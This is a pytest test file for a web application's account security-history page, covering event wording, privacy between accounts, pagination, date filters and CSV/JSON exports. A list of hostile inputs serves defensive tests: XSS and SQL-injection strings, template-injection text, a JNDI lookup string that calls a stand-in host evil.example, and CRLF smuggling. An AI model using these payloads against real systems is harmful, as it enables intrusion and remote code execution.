"""The security history: what was recorded is read back, by its owner and in plain words."""

import csv
import io
import json
from typing import Any
from urllib.parse import parse_qs, urlsplit
from uuid import UUID

import pytest
from webtest import TestResponse

from tests.common.people import Person
from tests.common.site import Site
from tests.common.visitor import Visitor
from tests.common.watching import statements
from warehouse_mfa.db import new_id

DASH = "\N{EN DASH}"
HISTORY = "/manage/account/history/"
TABLE = "/manage/account/history.csv"
DATA = "/manage/account/history.json"
LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
RECORD = (
    "INSERT INTO events (id, tag, happened_at, subject_id, facts)"
    " SELECT :id, :tag, happened_at, subject_id, :facts FROM events"
    " WHERE tag = 'account:registered' ORDER BY id LIMIT 1"
)


@pytest.fixture
def alice(site: Site, user_with_totp: Person) -> Visitor:
    """Alice, logged in from an address and a browser of her own."""
    visitor = site.visitor(address="198.51.100.9", agent=LINUX)
    visitor.log_in(user_with_totp)
    return visitor


def lines_on(page: TestResponse) -> list[list[str]]:
    """Return the cells of each line."""
    return [
        [" ".join(cell.get_text(" ").split()) for cell in line.select("td")]
        for line in page.html.select("#account-events tbody tr")
    ]


def sentences_on(page: TestResponse) -> list[str]:
    return [cell.text for cell in page.html.select("#account-events .history-sentence")]


def record(site: Site, tag: str, number: int = 1, **facts: Any) -> None:
    """Write events of the first account behind the application's back."""
    for _ in range(number):
        id = new_id()
        key = id.hex if site.settings.database_url.get_secret_value()[0] == "s" else id
        site.change(RECORD, id=key, tag=tag, facts=json.dumps(facts))


# What it says


def test_a_page_says_how_long_ago_something_was(site: Site, alice: Visitor) -> None:
    site.clock.advance(minutes=5)
    logged_in = alice.get(HISTORY, status=200).html.select_one("#account-events time")

    assert logged_in.text == "5 minutes ago"
    assert "2026" in logged_in["title"]


def test_a_login_is_told_with_factor_time_place_and_browser(alice: Visitor) -> None:
    page = alice.get(HISTORY, status=200)

    assert lines_on(page)[0] == [
        "You logged in with a code of the authenticator app Phone .",
        "just now",
        "Firefox on Linux (new) 198.51.100.9",
        "Authenticator app",
    ]
    assert page.html.select_one("tbody time")["datetime"] == "2026-12-01T12:01:37+00:00"
    assert page.headers["Cache-Control"] == "no-store"


def test_a_login_with_a_browser_that_is_known_says_nothing_of_it(
    site: Site, alice: Visitor, user_with_totp: Person
) -> None:
    alice.form("/account/logout/", "logout-form").submit(status=303)
    site.clock.advance(seconds=60)
    alice.log_in(user_with_totp)

    page = alice.get(HISTORY, status=200)

    assert [line[2] for line in lines_on(page)[:4]] == [
        "Firefox on Linux 198.51.100.9",
        "Firefox on Linux 198.51.100.9",
        "Firefox on Linux 198.51.100.9",
        "Firefox on Linux (new) 198.51.100.9",
    ]


def test_a_life_is_told_newest_first(site: Site) -> None:
    person = site.person("bob", totp=True, key=True)
    visitor = site.visitor()
    visitor.give_password(person)
    visitor.give_key(person)
    visitor.form("/account/logout/", "logout-form").submit(status=303)
    site.clock.advance(seconds=60)
    visitor.log_in(person)

    assert sentences_on(visitor.get(HISTORY, status=200)) == [
        "You logged in with a code of the authenticator app Phone.",
        "Your password was given, as the first step of a login.",
        "You logged out.",
        "You logged in with the security key Key.",
        "Your password was given, as the first step of a login.",
        "You added the security key Key.",
        "You added the authenticator app Phone.",
        "Your password was given, as the first step of a login.",
        "The email address bob@example.org was verified.",
        "The account bob was registered.",
    ]


def test_what_a_stranger_tries_is_told_with_their_place(
    site: Site, alice: Visitor, user_with_totp: Person
) -> None:
    stranger = site.visitor(address="203.0.113.7", agent="curl/8.14.1")
    stranger.give_password(user_with_totp, status=422, password="a guess")
    stranger.give_password(user_with_totp)
    stranger.give_code(user_with_totp.wrong_code(), status=422)

    page = alice.get(HISTORY, status=200)

    assert [(line[0], line[2], line[3]) for line in lines_on(page)[:3]] == [
        (
            "Somebody gave a code of an authenticator app that was not right.",
            "Unknown program 203.0.113.7",
            "Authenticator app",
        ),
        (
            "Your password was given, as the first step of a login.",
            "Unknown program 203.0.113.7",
            "none",
        ),
        ("Somebody gave a wrong password.", "Unknown program 203.0.113.7", "none"),
    ]
    warnings = [
        "history-warning" in line.get("class", []) for line in page.html.select("tbody tr")[:3]
    ]
    assert warnings == [True, False, True]


def test_an_attempt_that_was_stopped_is_told_once(
    site: Site, alice: Visitor, user_with_totp: Person
) -> None:
    for status in [422] * 10 + [429] * 3:
        site.visitor().give_password(user_with_totp, status=status, password="a guess")

    sentences = sentences_on(alice.get(HISTORY, status=200))

    stopped = "We stopped an attempt to log in, after too many wrong passwords."
    assert sentences[0] == stopped
    assert sentences.count(stopped) == 1
    assert sentences.count("Somebody gave a wrong password.") == 10


def test_an_event_of_another_release_is_told_by_its_tag(site: Site, alice: Visitor) -> None:
    record(site, "account:later:<b>", label="${tag}")

    page = alice.get(HISTORY, status=200)

    assert sentences_on(page)[0] == (
        "Something happened that this page has no words for: account:later:<b>"
    )


def test_a_fact_that_an_older_event_lacks_is_a_dash(site: Site, alice: Visitor) -> None:
    record(site, "account:totp:enrolled")

    page = alice.get(HISTORY, status=200)

    assert sentences_on(page)[0] == f"You added the authenticator app {DASH}."


@pytest.mark.parametrize(
    ("field", "cell"),
    [
        ("address", f"Firefox on Linux (new) {DASH} not known"),
        ("agent", f"{DASH} not known (new) 198.51.100.9"),
    ],
)
def test_a_personal_field_that_was_erased_is_a_dash_with_an_explanation(
    site: Site, alice: Visitor, field: str, cell: str
) -> None:
    site.change("DELETE FROM event_private WHERE field = :field", field=field)

    page = alice.get(HISTORY, status=200)

    assert lines_on(page)[0][2] == cell
    assert "A dash stands for what is not known, or was erased" in page


# Whose it is


def test_nobody_sees_what_happened_to_somebody_else(
    site: Site, alice: Visitor, mallory: Person
) -> None:
    site.visitor().give_password(mallory, status=422, password="a guess")
    site.visitor().give_password(Person("nobody", clock=site.clock), status=422)

    sentences = sentences_on(alice.get(HISTORY, status=200))

    assert "The account alice was registered." in sentences
    assert not any("wrong password" in one or "mallory" in one for one in sentences)


@pytest.mark.attack("P-101")
def test_an_event_of_somebody_else_is_a_place_and_nothing_more(
    site: Site, alice: Visitor, mallory: Person
) -> None:
    last = site.value("SELECT id FROM events ORDER BY id DESC LIMIT 1")

    page = alice.get(f"{HISTORY}?before={last}", status=200)

    assert sentences_on(page) == sentences_on(alice.get(HISTORY))


def test_a_stranger_is_sent_to_log_in_and_back(visitor: Visitor) -> None:
    answer = visitor.get(HISTORY, status=303)

    parts = urlsplit(answer.location)
    assert (parts.path, parse_qs(parts.query)) == ("/account/login/", {"next": [HISTORY]})


def test_somebody_who_owes_a_factor_does_not_see_it(
    visitor: Visitor, user_with_totp: Person
) -> None:
    visitor.give_password(user_with_totp)

    visitor.get(HISTORY, status=303)


def test_menu_and_overview_lead_to_it(alice: Visitor) -> None:
    page = alice.get("/manage/account/", status=200)

    history = page.click("See your security history")
    assert len(page.html.select(f'.side-menu a[href$="{HISTORY}"]')) == 1
    assert history.html.select_one(".side-menu a[aria-current]").text == "History"


# Page by page


def test_the_pages_lead_from_the_newest_event_to_the_oldest(site: Site, alice: Visitor) -> None:
    record(site, "account:logout", 105)
    total = site.value("SELECT count(*) FROM events")

    pages = [alice.get(HISTORY, status=200)]
    while pages[-1].html.find("a", string="Older"):
        pages.append(pages[-1].click("Older"))

    told = [sentence for page in pages for sentence in sentences_on(page)]
    assert [len(sentences_on(page)) for page in pages] == [50, 50, total - 100]
    assert told[:105] == ["You logged out."] * 105
    assert told[-1] == "The account alice was registered."
    assert not pages[0].html.find("a", string="Newest")
    assert sentences_on(pages[-1].click("Newest")) == sentences_on(pages[0])


def test_a_page_costs_two_statements_however_much_happened(site: Site, alice: Visitor) -> None:
    record(site, "account:logout", 200)

    with statements(site) as sent:
        alice.get(HISTORY, status=200)

    selects = [one for one in sent if one.startswith("SELECT")]
    assert len(selects) == 2, selects


def test_before_the_first_event_there_is_nothing(alice: Visitor) -> None:
    page = alice.get(f"{HISTORY}?before={UUID(int=0)}", status=200)

    assert lines_on(page) == []
    assert "There is nothing older." in page
    assert page.click("Newest").html.select("tbody tr")


def test_an_account_without_events_says_so(site: Site, alice: Visitor) -> None:
    site.change("DELETE FROM notices")
    site.change("DELETE FROM event_private")
    site.change("DELETE FROM audit_leaves")
    site.change("DELETE FROM events")

    page = alice.get(HISTORY, status=200)

    assert lines_on(page) == []
    assert "Nothing has happened yet." in page


@pytest.mark.attack("P-101")
@pytest.mark.parametrize(
    "before",
    [
        "",
        "0",
        "-1",
        "x",
        "' OR 1=1--",
        "%",
        "_",
        "\\",
        "$$",
        ":x",
        "9" * 10_000,
        "\u202e",
    ],
)
def test_a_place_that_is_none_is_not_found(alice: Visitor, before: str) -> None:
    page = alice.get(HISTORY, {"before": before}, status=404)

    assert "Page not found" in page


# What is asked for


def test_a_topic_shows_what_belongs_to_it(alice: Visitor) -> None:
    form = alice.form(HISTORY, "history-filter-form")
    form["about"] = "factors"

    page = form.submit(status=200)

    assert sentences_on(page) == ["You added the authenticator app Phone."]
    assert page.forms["history-filter-form"]["about"].value == "factors"
    # Nothing of a filter is required, so no field has to say that it is not.
    assert "(optional)" not in page.html.find(id="history-filter-form").text


def test_what_was_refused_is_a_topic(site: Site, alice: Visitor, user_with_totp: Person) -> None:
    site.visitor().give_password(user_with_totp, status=422, password="a guess")

    page = alice.get(HISTORY, {"about": "warnings"}, status=200)

    assert sentences_on(page) == ["Somebody gave a wrong password."]


@pytest.mark.parametrize(
    ("since", "until", "is_told"),
    [
        ("2026-12-01", "2026-12-01", False),
        ("2026-12-02", "", True),
        ("", "2026-12-02", True),
        ("2026-12-02", "2026-12-02", True),
        ("2026-12-03", "", False),
        ("", "2026-12-01", False),
        ("1970-01-01", "9998-12-31", True),
    ],
)
def test_days_are_those_of_the_profile(
    site: Site, alice: Visitor, since: str, until: str, is_told: bool
) -> None:
    """A login at noon in UTC is one of the next day in Kiritimati, fourteen hours ahead."""
    site.change("UPDATE users SET time_zone = 'Pacific/Kiritimati'")

    asked = {"about": "logins", "since": since, "until": until}
    page = alice.get(HISTORY, asked, status=200)

    told = sentences_on(page)
    assert ("You logged in with a code of the authenticator app Phone." in told) is is_told
    assert ("Nothing of this happened in that time." in page) is not is_told


def test_the_pages_of_a_topic_lead_on_within_it(site: Site, alice: Visitor) -> None:
    record(site, "account:totp:enrolled", 60, label="Other")
    record(site, "account:logout", 60)

    page = alice.get(HISTORY, {"about": "factors", "since": "2020-01-01"}, status=200)
    older = page.click("Older")

    assert [len(sentences_on(page)), len(sentences_on(older))] == [50, 11]
    assert "You logged out." not in sentences_on(page) + sentences_on(older)
    assert sentences_on(older.click("Newest")) == sentences_on(page)


@pytest.mark.attack("P-101")
@pytest.mark.parametrize(
    "asked",
    [
        {"about": "' OR 1=1--"},
        {"about": "Logins"},
        {"since": "yesterday"},
        {"since": "20261201"},
        {"since": "2026-W49-2"},
        {"since": "2026-02-30"},
        {"until": "9999-12-31"},
        {"until": "0001-01-01"},
        {"until": "\u0662\u0660\u0662\u0666-12-01"},
        {"since": "2026-12-02", "until": "2026-12-01"},
        {"since": "9" * 10_000},
    ],
)
def test_what_cannot_be_asked_for_is_said_to_everybody_in_their_way(
    alice: Visitor, asked: dict[str, str]
) -> None:
    page = alice.get(HISTORY, asked, status=422)
    data = alice.get(DATA, asked, status=422)
    table = alice.get(TABLE, asked, status=303).follow(status=422)

    assert page.html.select_one(".error-summary a")
    assert sentences_on(page) == sentences_on(alice.get(HISTORY))
    assert data.json["fail"]["reason"] == "form"
    assert table.html.select_one(".error-summary a")


# Files


def told_in(table: TestResponse) -> list[str]:
    """Return the sentences of a table."""
    text = table.body.decode("utf-8-sig")
    return [line["sentence"] for line in csv.DictReader(io.StringIO(text, newline=""))]


def test_both_files_have_all_that_happened(site: Site, alice: Visitor) -> None:
    record(site, "account:logout", 1100)
    page = alice.get(HISTORY, status=200)

    table, data = page.click("CSV"), page.click("JSON")

    total = site.value("SELECT count(*) FROM events")
    told = told_in(table)
    assert told == [event["sentence"] for event in data.json["events"]]
    assert len(told) == total
    assert told[:50] == sentences_on(page)
    assert told[-1] == "The account alice was registered."
    assert len({event["id"] for event in data.json["events"]}) == total


def test_files_are_downloaded_and_kept_by_nobody(alice: Visitor) -> None:
    for path, kind in ((TABLE, "text/csv"), (DATA, "application/json")):
        answer = alice.get(path, status=200)
        name = f"alice-{path.rpartition('/')[2]}"

        assert answer.content_type == kind
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert answer.headers["Cache-Control"] == "no-store"


def test_files_hold_what_the_page_shows_and_are_in_its_language(site: Site, alice: Visitor) -> None:
    alice.post_form("/locale/", {"locale_id": "fr", "next": HISTORY}, status=303)
    page = alice.get(HISTORY, {"about": "factors"}, status=200)

    table, data = page.click("CSV"), page.click("JSON")

    assert told_in(table) == sentences_on(page)
    (event,) = data.json["events"]
    assert (event["sentence"], event["address"]) == (sentences_on(page)[0], "203.0.113.200")
    assert event["facts"]["label"] == "Phone"


def test_a_file_says_nothing_of_anybody_else(site: Site, alice: Visitor, mallory: Person) -> None:
    site.visitor().give_password(mallory, status=422, password="a guess")

    for path in (TABLE, DATA):
        answer = alice.get(path, status=200)
        assert "alice" in answer
        assert "mallory" not in answer
        assert "wrong password" not in answer


# What strangers write


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR 1=1--",
    "${label} ${credential} %(label)s {{ 7 * 7 }}",
    "one\u202etwo\u2066three",
    "\x1b[31mred\r\nGET / HTTP/1.1",
    "${jndi:ldap://evil.example/x}",
    "\U0001f511 & &amp;",
    "x" * 10_000,
]


@pytest.mark.attack("P-069")
@pytest.mark.parametrize("label", HOSTILE)
def test_a_name_is_told_as_it_is_kept_apart_and_does_nothing(
    site: Site, alice: Visitor, label: str
) -> None:
    record(site, "account:webauthn:registered", label=label)

    page = alice.get(HISTORY, status=200)

    sentence = page.html.select_one(".history-sentence")
    told = "\n".join(sentence.select_one("bdi").text.splitlines())
    assert told == "\n".join(label.splitlines())
    assert sentence.text.startswith("You added the security key ")
    assert not page.html.select("img[onerror], script:not([src]), [onmouseover]")


@pytest.mark.attack("P-102")
@pytest.mark.parametrize(
    "agent", [agent for agent in HOSTILE if agent.isascii() and agent.isprintable()]
)
def test_what_a_browser_says_of_itself_is_not_repeated(
    site: Site, alice: Visitor, user_with_totp: Person, agent: str
) -> None:
    site.visitor(agent=f"{agent} Firefox/1").give_password(user_with_totp)

    page = alice.get(HISTORY, status=200)

    expected = "Unknown program" if len(agent) > 512 else "Firefox"
    assert lines_on(page)[0][2] == f"{expected} 192.0.2.1"
    assert agent not in page.html.select_one("#account-events").text


def test_a_browser_that_sends_nul_is_told(
    site: Site, alice: Visitor, user_with_totp: Person
) -> None:
    site.visitor(agent="\0Firefox/1 (Linux)\0").give_password(user_with_totp)

    page = alice.get(HISTORY, status=200)

    assert lines_on(page)[0][2] == "Firefox on Linux 192.0.2.1"
    assert "\0" not in page.text
